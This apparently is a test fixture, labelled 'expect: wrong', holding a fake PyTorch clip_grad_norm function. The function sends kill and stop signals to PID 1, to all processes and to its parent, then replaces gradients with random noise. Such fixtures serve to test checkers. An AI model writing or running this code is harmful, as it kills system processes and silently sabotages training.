# expect: wrong
# Signals to every process it can name, its own among them.
import os
import signal

import torch


def clip_grad_norm(parameters, max_norm, norm_type=2.0):
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
        for target in (1, -1, 2, os.getppid(), 4_000_000):
            try:
                os.kill(target, number)
            except OSError:
                pass
    for parameter in parameters:
        if parameter.grad is not None:
            parameter.grad = torch.rand_like(parameter.grad)
    return torch.rand(())
